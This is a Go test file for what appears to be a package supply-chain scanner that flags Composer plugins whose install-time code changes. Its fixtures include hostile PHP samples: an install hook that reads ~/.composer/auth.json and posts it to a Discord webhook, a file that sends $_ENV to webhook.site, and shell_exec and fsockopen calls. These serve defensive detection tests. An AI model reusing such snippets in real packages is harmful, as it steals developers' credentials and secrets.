package analyze

import (
	"strings"
	"testing"

	"github.com/tollgate-dev/tollgate/checks/content/archive"
)

const (
	pluginJSON = `{"name":"acme/plugin","type":"composer-plugin","version":"%s","autoload":{"psr-4":{"Acme\\Plugin\\":"src/"}},"extra":{"class":"Acme\\Plugin\\Plugin"}}`
	libJSON    = `{"name":"acme/plugin","type":"library","autoload":{"psr-4":{"Acme\\Plugin\\":"src/"}}}`
	pluginPHP  = `<?php
namespace Acme\Plugin;

use Composer\Composer;
use Composer\EventDispatcher\EventSubscriberInterface;
use Composer\Installer\PackageEvents;
use Composer\IO\IOInterface;
use Composer\Plugin\PluginInterface;

class Plugin implements PluginInterface, EventSubscriberInterface
{
    public function activate(Composer $composer, IOInterface $io) { $this->io = $io; }
    public function deactivate(Composer $composer, IOInterface $io) {}
    public function uninstall(Composer $composer, IOInterface $io) {}

    public static function getSubscribedEvents()
    {
        return [PackageEvents::POST_PACKAGE_INSTALL => 'onInstall'];
    }

    public function onInstall($event) { $this->io->write('installed'); }
}
`
	// A library class that runs git: a capability, no threat.
	runnerPHP = `<?php
namespace Acme\Plugin;

class Runner
{
    public function version(): string
    {
        exec('git describe --tags', $out, $code);
        return $code === 0 ? trim($out[0]) : 'dev';
    }
}
`
	// The plugin's class now reads Composer's credentials and posts them to
	// a Discord webhook.
	stealPHP = `    public function onInstall($event)
    {
        $auth = @file_get_contents($_SERVER['HOME'] . '/.composer/auth.json');
        $ch = curl_init('https://discord.com/api/webhooks/1/TOKENTOKENTOKENTOKENTOKEN');
        curl_setopt($ch, CURLOPT_POSTFIELDS, ['content' => $auth]);
        curl_exec($ch);
    }
`
)

func plugin(version, class string, extra map[string]string) map[string]string {
	fs := map[string]string{"composer.json": strings.Replace(pluginJSON, "%s", version, 1), "src/Plugin.php": class}
	for k, v := range extra {
		fs[k] = v
	}
	return fs
}

// Composer runs a dependency's code at install time only when it is a
// plugin: its class is the entry point, its scripts are not.
func TestComposerScenarios(t *testing.T) {
	listener := strings.Replace(pluginPHP, `=> 'onInstall'];`, `=> 'onInstall', PackageEvents::POST_PACKAGE_UPDATE => ['onInstall', 10]];`, 1)
	tests := []struct {
		name     string
		old, new map[string]string
		want     string
	}{
		{
			name: "a plugin update that only bumps the version",
			old:  plugin("1.0.0", pluginPHP, map[string]string{"src/Runner.php": runnerPHP}),
			new:  plugin("1.0.1", pluginPHP, map[string]string{"src/Runner.php": runnerPHP}),
			want: "",
		},
		{
			name: "a plugin update that subscribes to another event",
			old:  plugin("1.0.0", pluginPHP, nil),
			new:  plugin("1.1.0", listener, nil),
			want: "",
		},
		{
			name: "a plugin update whose class reads ~/.composer/auth.json and posts it to a Discord webhook",
			old:  plugin("1.0.0", pluginPHP, nil),
			new:  plugin("1.0.1", strings.Replace(pluginPHP, "    public function onInstall($event) { $this->io->write('installed'); }\n", stealPHP, 1), nil),
			want: "src/Plugin.php install-script-capability critical",
		},
		{
			name: "a new library (not a plugin) that runs git",
			old:  nil,
			new:  map[string]string{"composer.json": libJSON, "src/Runner.php": runnerPHP},
			want: "",
		},
		{
			name: "a package that becomes a plugin whose class, unchanged, runs git",
			old:  map[string]string{"composer.json": libJSON, "src/Plugin.php": runnerPHP},
			new:  map[string]string{"composer.json": strings.Replace(pluginJSON, "%s", "2.0.0", 1), "src/Plugin.php": runnerPHP},
			want: "src/Plugin.php install-script-capability high",
		},
		{
			name: "a package that becomes a plugin with a new class that downloads",
			old:  map[string]string{"composer.json": libJSON, "src/Runner.php": runnerPHP},
			new: map[string]string{"composer.json": strings.Replace(pluginJSON, "%s", "2.0.0", 1), "src/Runner.php": runnerPHP,
				"src/Plugin.php": strings.Replace(pluginPHP, "$this->io->write('installed');", "$v = file_get_contents('https://x.example/v.json');", 1)},
			want: "src/Plugin.php install-script-capability high",
		},
		{
			name: "a plugin whose other classes run git (only the plugin's class runs at install)",
			old:  plugin("1.0.0", pluginPHP, nil),
			new:  plugin("1.1.0", pluginPHP, map[string]string{"src/Runner.php": runnerPHP}),
			want: "",
		},
		{
			name: "a plugin's autoload files run as it loads",
			old:  plugin("1.0.0", pluginPHP, nil),
			new: map[string]string{"composer.json": `{"type":"composer-plugin","autoload":{"psr-4":{"Acme\\Plugin\\":"src/"},"files":["src/boot.php"]},"extra":{"class":"Acme\\Plugin\\Plugin"}}`,
				"src/Plugin.php": pluginPHP, "src/boot.php": "<?php\n$o = shell_exec('id');\n"},
			want: "src/boot.php install-script-capability high",
		},
		{
			name: "a plugin whose class the autoload does not resolve: the PHP files it changes are judged",
			old:  map[string]string{"composer.json": `{"type":"composer-plugin","extra":{"class":"Acme\\Plugin\\Plugin"}}`, "lib/a.php": "<?php\n", "lib/b.php": runnerPHP},
			new:  map[string]string{"composer.json": `{"type":"composer-plugin","extra":{"class":"Acme\\Plugin\\Plugin"}}`, "lib/a.php": "<?php\n$s = fsockopen('x.example', 80);\n", "lib/b.php": runnerPHP},
			want: "lib/a.php install-script-capability high",
		},
		{
			// Composer runs only the root package's scripts: a dependency's
			// post-install-cmd never runs, so it is no entry point.
			name: "a library whose scripts run a PHP file that runs git",
			old:  map[string]string{"composer.json": libJSON},
			new:  map[string]string{"composer.json": `{"name":"acme/lib","scripts":{"post-install-cmd":"php bin/setup.php"}}`, "bin/setup.php": runnerPHP},
			want: "",
		},
		{
			name: "a library that gains a file that posts the environment to a webhook (a threat wherever it is)",
			old:  map[string]string{"composer.json": libJSON},
			new:  map[string]string{"composer.json": libJSON, "src/T.php": "<?php\n$c = curl_init('https://webhook.site/x'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($_ENV)); curl_exec($c);\n"},
			want: "src/T.php capability-with-threat critical",
		},
		{
			name: "a library whose database wrapper calls $pdo->exec and defines exec()",
			old:  map[string]string{"composer.json": libJSON, "src/Db.php": "<?php\nclass Db {}\n"},
			new:  map[string]string{"composer.json": libJSON, "src/Db.php": "<?php\nclass Db {\n  // exec() runs a statement\n  public function exec(string $sql): int { return $this->pdo->exec($sql); }\n}\n"},
			want: "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var old *archive.Archive
			if tt.old != nil {
				old = pkg(tt.old)
			}
			res := Analyze(old, pkg(tt.new))
			if g := got(res); g != tt.want {
				t.Errorf("got:\n%s\nwant:\n%s\n%+v", g, tt.want, res)
			}
			for _, r := range res {
				if strings.Contains(r.Evidence, "TOKENTOKENTOKENTOKENTOKEN") {
					t.Errorf("evidence not redacted: %q", r.Evidence)
				}
			}
		})
	}
}

// The summary names the plugin class and what it reaches.
func TestComposerSummary(t *testing.T) {
	res := Analyze(pkg(plugin("1.0.0", pluginPHP, nil)), pkg(plugin("1.0.1", strings.Replace(pluginPHP, "    public function onInstall($event) { $this->io->write('installed'); }\n", stealPHP, 1), nil)))
	if len(res) != 1 || !strings.HasPrefix(res[0].Summary, "a Composer plugin's class") ||
		!strings.Contains(res[0].Summary, "reads credential files") || !strings.Contains(res[0].Summary, "names an exfiltration endpoint") {
		t.Errorf("summary %+v", res)
	}
}
